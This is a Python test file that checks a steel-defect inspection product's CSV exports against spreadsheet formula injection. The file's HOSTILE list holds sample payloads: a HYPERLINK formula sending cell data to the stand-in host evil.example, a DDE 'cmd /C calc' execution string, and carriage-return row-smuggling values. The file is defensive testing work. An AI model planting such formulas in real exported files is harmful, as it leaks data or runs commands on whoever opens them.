"""No CSV the product writes lets a spreadsheet run a cell as a formula (steelcore/csv_safety.py):
the dashboard's two exports, `steel query --format csv|kaggle` and every Kaggle-format file
(submissions, the retraining dataset's train.csv)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from dashboard import history_page
from steelcore.csv_safety import neutralise, restore
from steelcore.kaggle_csv import read_labels, write_submission
from steelcore.postgres import defect_history
from steelcore.postgres.defect_history import DefectFilters, DefectRow
from workers import query_cli

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "K1\r=1+1",  # a bare carriage return ends a spreadsheet row: the rest would start the next
)
FORMULA_START = tuple("=+-@\t\r")


def _row(frame_id: str, *, coil_id: str = "K1", model: str = "m") -> DefectRow:
    return DefectRow(
        defect_id=1, frame_id=frame_id, class_id=2, captured_at=datetime(2026, 2, 1, tzinfo=UTC),
        line_id="L1", camera_id="@cam", coil_id=coil_id, position_m=1.5, area_px=5,
        bbox=(0, 100, 0, 104), probability=0.8, severity=0.1, rle="101 5", height=256, width=1600,
        model_name=model, model_version="1", image_ref=None,
    )  # fmt: skip


def _cells(text: str) -> list[str]:
    # Split rows as a spreadsheet does: a bare carriage return ends a row too.
    return [cell for row in csv.reader(io.StringIO(text, newline=None)) for cell in row]


def _assert_inert(text: str) -> None:
    dangerous = [cell for cell in _cells(text) if cell.startswith(FORMULA_START)]
    assert dangerous == []


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_is_neutralised(value: str) -> None:
    cell = neutralise(value)
    assert isinstance(cell, str) and "\r" not in cell
    if value[0] in FORMULA_START:
        assert cell.startswith("'") and restore(cell) == value.replace("\r", "\n")


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert neutralise(-1.5) == -1.5 and neutralise(-3) == -3
    assert neutralise("frame-1") == "frame-1" and restore("'quoted") == "'quoted"


def test_the_dashboard_csv_export_is_inert(monkeypatch: pytest.MonkeyPatch) -> None:
    rows = [_row(v, coil_id=v, model=v) for v in HOSTILE]
    monkeypatch.setattr(history_page, "query_defects", lambda _engine, _filters: rows)
    text = history_page.defects_csv(None, DefectFilters()).decode("utf-8")  # type: ignore[arg-type]
    _assert_inert(text)
    assert f"'{HOSTILE[0]}" in _cells(text)


def test_the_dashboard_kaggle_export_is_inert_and_reads_back(monkeypatch: pytest.MonkeyPatch) -> None:
    rows = [_row(v) for v in HOSTILE]
    monkeypatch.setattr(history_page, "query_defects", lambda _engine, _filters: rows)
    text = history_page.defects_kaggle_csv(None, DefectFilters()).decode("utf-8")  # type: ignore[arg-type]
    _assert_inert(text)


def test_steel_query_csv_is_inert(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    rows = [_row(v, coil_id=v) for v in HOSTILE]
    monkeypatch.setattr(defect_history, "query_defects", lambda _engine, _filters: rows)
    for fmt in ("csv", "kaggle"):
        out = tmp_path / f"out.{fmt}.csv"
        query_cli._write_defects(None, DefectFilters(), fmt, out)  # type: ignore[arg-type]
        _assert_inert(out.read_text(encoding="utf-8"))


def test_kaggle_files_round_trip_hostile_ids(tmp_path: Path) -> None:
    path = tmp_path / "train.csv"
    write_submission(path, [(v, 1, "1 3") for v in HOSTILE])
    _assert_inert(path.read_text(encoding="utf-8"))
    assert set(read_labels(path)) == {v.replace("\r", "\n") for v in HOSTILE}
